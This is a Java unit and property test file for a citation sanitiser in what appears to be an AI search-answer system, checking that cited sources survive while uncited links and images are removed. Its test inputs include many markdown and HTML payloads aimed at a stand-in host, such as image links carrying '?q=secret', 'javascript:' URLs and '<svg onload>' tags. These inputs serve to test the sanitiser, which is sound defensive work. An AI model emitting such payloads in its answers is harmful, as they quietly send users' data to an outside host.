package ai.orchestrator.server.search.answer;

import static org.assertj.core.api.Assertions.assertThat;

import ai.orchestrator.server.orchestration.Source;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CitedTextTest {
    private static final List<Source> SOURCES = List.of(
            new Source(1, "https://www.ok.org/page", "Ok"),
            new Source(2, "http://two.example.org:8080/", "Two"),
            new Source(3, "doc:notes/a.md", "Notes"));

    private static final List<String> FRAGMENTS = List.of(
            "word",
            " ",
            "\n",
            "\n\n",
            "[1]",
            "[9]",
            " [9]",
            "[1, 9]",
            "[",
            "]",
            "(",
            ")",
            "!",
            "![",
            "](",
            "]:",
            "<",
            ">",
            "\\",
            "`",
            "``",
            "```",
            "```\n",
            "\n```\n",
            "\n~~~\n",
            "~~~",
            "- ",
            "> ",
            "  ",
            "    ",
            "1. ",
            "|",
            "x",
            "0",
            "&#33;",
            "\"",
            "http://evil.org/a",
            "(http://evil.org/?q=1)",
            "[x](http://evil.org/)",
            "![x](http://evil.org/a.png)",
            "[ok](https://ok.org/a)",
            "![ok](https://ok.org/a.png)",
            "<http://evil.org/>",
            "<img src=http://evil.org/>",
            "<br>",
            "[x]: http://evil.org/\n",
            "[x]",
            "![x][x]",
            "<div>",
            "<!--",
            "-->",
            "<b>",
            "\r\n",
            "\t",
            "*",
            "# ",
            "/",
            ":",
            "://");

    private static final Pattern LOADING = Pattern.compile(
            "</?(?:img|image|video|audio|source|iframe|embed|object|link|script|style|svg|input|button|form|base|meta|body|table|td|a|area)(?![a-z0-9])",
            Pattern.CASE_INSENSITIVE);

    private static final Pattern ELSEWHERE = Pattern.compile("\\s*(?:[A-Za-z][A-Za-z0-9+.-]*:|[/\\\\]\\s*[/\\\\])");
    private static final Pattern CITED = Pattern.compile(
            "https?://(?:www\\.)?(?:ok|two\\.example)\\.org(?:[:/?#].*)?|doc:notes/a\\.md", Pattern.CASE_INSENSITIVE);

    private static String clean(String... pieces) {
        CitedText text = new CitedText(SOURCES, false);
        StringBuilder clean = new StringBuilder();
        for (String piece : pieces) {
            clean.append(text.next(piece));
        }
        return clean.append(text.end()).toString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Plain text, in (brackets) and [more].",
                "It is so [1]. And so [1][2], or [1, 2].",
                "a[0] = b[i];",
                "In [2024] it was.",
                "See [here](https://ok.org/x), [there](http://www.two.example.org/) or [notes](doc:notes/a.md).",
                "A picture: ![of it](https://ok.org/a.png \"title\")",
                "[down](#part) and [file](a/b.md)",
                "`a[9]` and ``b`[9]``",
                "```js\nx[9] = '![a](http://evil.org/)';\n```\n",
                "~~~\n<img src=\"http://evil.org/\">\n~~~\n",
                "1 < 2 and 3 > 2",
                "1. Run:\n   ```\n   x[9] = a<div>;\n   ```\n2. Done",
                "line<br>break and x<sup>2</sup>",
                "\\[9] and \\![x]",
                "- [ ] task\n- [x] done",
                "unfinished [1",
                "unfinished ![a](htt",
                "unfinished `code [9",
                "a | b",
                "5 * 3 = 15"
            })
    void honestTextStaysAsItIs(String text) {
        assertThat(clean(text)).isEqualTo(text);
    }

    @Test
    void citationsOfNothingAreDropped() {
        assertThat(clean("It is so [9]. So [1][7], [1, 8], [7;8] and [^4]. Word[5]"))
                .isEqualTo("It is so. So [1], [1], and. Word");
        assertThat(clean("[1-3] and [2-9]")).isEqualTo("[1-3] and [2]");
        assertThat(clean("See [9](http://evil.org/) and [1](http://evil.org/)."))
                .isEqualTo("See  and [1].");
    }

    @Test
    void imagesOfOtherHostsGoAndLinksBecomeTheirText() {
        assertThat(clean("Look: ![x](http://evil.org/?q=secret) there")).isEqualTo("Look:  there");
        assertThat(clean("Look [here](https://evil.org/?q=a \"title\") now")).isEqualTo("Look here now");
        assertThat(clean("[![alt](http://evil.org/a.png)](http://evil.org/)")).isEmpty();
        assertThat(clean("[a *b* [1]](http://evil.org/)")).isEqualTo("a *b* [1]");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](http://evil.org/a)",
                "![x]( http://evil.org/a )",
                "![x](<http://evil.org/a b>)",
                "![x](//evil.org/a)",
                "![x](/\\evil.org/a)",
                "![x](\\\\evil.org)",
                "![x](HTTP://EVIL.ORG/)",
                "![x](&#104;ttp://evil.org/)",
                "![x](http&colon;//evil.org/)",
                "![x](http://ok.org@evil.org/)",
                "![x](http://ok.org.evil.org/)",
                "![x](http://evil.org/ok.org)",
                "![x](http://ok.org\\@evil.org/)",
                "![x](javascript:alert(1))",
                "![x](data:text/html;base64,eA==)",
                "![x](http://evil.org/(a)(b))",
                "![x](<http://ok.org).evil.org/>)",
                "![x](http://ok.org\\).evil.org/)",
                "![x\ny](http://evil.org/)",
                "![a [b] c](http://evil.org/)",
                "![a `b` c](http://evil.org/)",
                "![a [b [c] d]](http://evil.org/)",
                "![x][y]\n\n[y]: http://evil.org/a",
                "![x]\n\n[x]: <http://evil.org/a>",
                "[x]:\nhttp://evil.org/\n\n![x]",
                "[x]: ht\\tp\\://evil.org/\n\n![x]",
                "> [x]: http://evil.org/\n\n![x]",
                "<img src=\"http://evil.org/\">",
                "<IMG SRC=//evil.org>",
                "<img alt=\">\" src=x>",
                "<a href=http://evil.org/>x</a>",
                "<svg onload=x>",
                "<!-- ` --> ![x](http://evil.org/) `",
                "<http://x`> ![x](http://evil.org/) `>",
                "- `a\n- ![x](http://evil.org/)`",
                "| ` | ![x](http://evil.org/) | ` |",
                "](\n- [x](http://evil.org/))",
                "[9]```\nword\n```\n![x](http://evil.org/)",
                "- [~~~](http://evil.org/)\n~~~\n![x](http://evil.org/)",
                "` ![x](http://evil.org/)",
                "`\n`![x](http://evil.org/)`",
                "`\r\n`![x](http://evil.org/)`",
                "\\` ![x](http://evil.org/) `",
                "    ```\n![x](http://evil.org/)",
                "- ```\n![x](http://evil.org/)",
                "> ```\n![x](http://evil.org/)",
                "  ```\na\n```\n![x](http://evil.org/)",
                "- ```\n  a\n  ```\n  ![x](http://evil.org/)",
                "``` a`b\n![x](http://evil.org/)",
                "```\n```\n![x](http://evil.org/)",
                "[x]<img src=x>(http://evil.org/)",
                "<[9]img src=x>",
                "<[img src=x](http://evil.org/)>",
                "![9][x](http://evil.org/)",
                "![x](http://evil.org/)(http://evil.org/)",
                "![x]![y](http://evil.org/)(http://evil.org/)",
                "<div>\n`<img src=http://evil.org/>`\n</div>",
                "<b>\n`<img src=http://evil.org/>`\n",
                "[a](http://evil.org/ 'b)')",
                "![x](\nhttp://evil.org/\n)"
            })
    void nothingLeadsElsewhere(String text) {
        assertThat(loads(clean(text))).isEmpty();
        assertThat(loads(clean(text.split("")))).isEmpty();
    }

    @Test
    void aDestinationOfThousandsOfCharactersIsNoLink() {
        assertThat(loads(clean("![x](http://evil.org/?q=" + "secret".repeat(1_000) + ")")))
                .isEmpty();
        assertThat(loads(clean("![" + "x".repeat(5_000) + "](http://evil.org/)")))
                .isEmpty();
        assertThat(loads(clean("`" + "x".repeat(5_000) + "![x](http://evil.org/)`")))
                .isEmpty();
    }

    @Test
    void textIsNotHeldBackLongerThanItHasToBe() {
        CitedText text = new CitedText(SOURCES, false);
        assertThat(text.next("Hello")).isEqualTo("Hello");
        assertThat(text.next(" world [")).isEqualTo(" world");
        assertThat(text.next("1")).isEmpty();
        assertThat(text.next("] is")).isEqualTo(" [1] is");
        assertThat(text.next(" it\n```\ncode [9]")).isEqualTo(" it\n```\ncode [9]");
        assertThat(text.end()).isEmpty();
    }

    @Property(tries = 3_000)
    void pieces_make_no_difference(@ForAll("texts") List<String> fragments, @ForAll("cuts") List<Integer> cuts) {
        String whole = String.join("", fragments);
        List<String> pieces = new ArrayList<>();
        String rest = whole;
        for (int i = 0; !rest.isEmpty(); i++) {
            int cut = Math.min(rest.length(), cuts.get(i % cuts.size()));
            pieces.add(rest.substring(0, cut));
            rest = rest.substring(cut);
        }
        assertThat(clean(pieces.toArray(String[]::new))).isEqualTo(clean(whole));
    }

    @Property(tries = 5_000)
    void no_text_leads_elsewhere(@ForAll("texts") List<String> fragments) {
        assertThat(loads(clean(String.join("", fragments)))).isEmpty();
    }

    @Property(tries = 3_000)
    void nor_does_the_list_below_it(@ForAll("texts") List<String> fragments, @ForAll("texts") List<String> title) {
        CitedText text = new CitedText(List.of(new Source(1, "https://ok.org/", String.join("", title))), true);
        String answer = text.next(String.join("", fragments)) + text.end();
        assertThat(loads(answer + text.below())).isEmpty();
    }

    @Provide
    Arbitrary<List<String>> texts() {
        return Arbitraries.of(FRAGMENTS).list().ofMaxSize(14);
    }

    @Provide
    Arbitrary<List<Integer>> cuts() {
        return Arbitraries.integers().between(1, 6).list().ofMinSize(1).ofMaxSize(5);
    }

    /** Where a reader's page would load from or lead to, other than to what is cited; also every tag that could. */
    private static List<String> loads(String markdown) {
        List<String> found = new ArrayList<>();
        Parser.builder().build().parse(markdown).accept(new AbstractVisitor() {
            @Override
            public void visit(Image image) {
                check(image.getDestination());
                visitChildren(image);
            }

            @Override
            public void visit(Link link) {
                check(link.getDestination());
                visitChildren(link);
            }

            @Override
            public void visit(HtmlInline html) {
                tag(html.getLiteral());
            }

            @Override
            public void visit(HtmlBlock html) {
                tag(html.getLiteral());
            }

            private void tag(String html) {
                if (LOADING.matcher(html).find()) {
                    found.add(html);
                }
            }

            private void check(String destination) {
                boolean elsewhere = ELSEWHERE.matcher(destination).lookingAt();
                if (elsewhere && !CITED.matcher(destination).matches()) {
                    found.add(destination);
                }
            }
        });
        return found;
    }
}
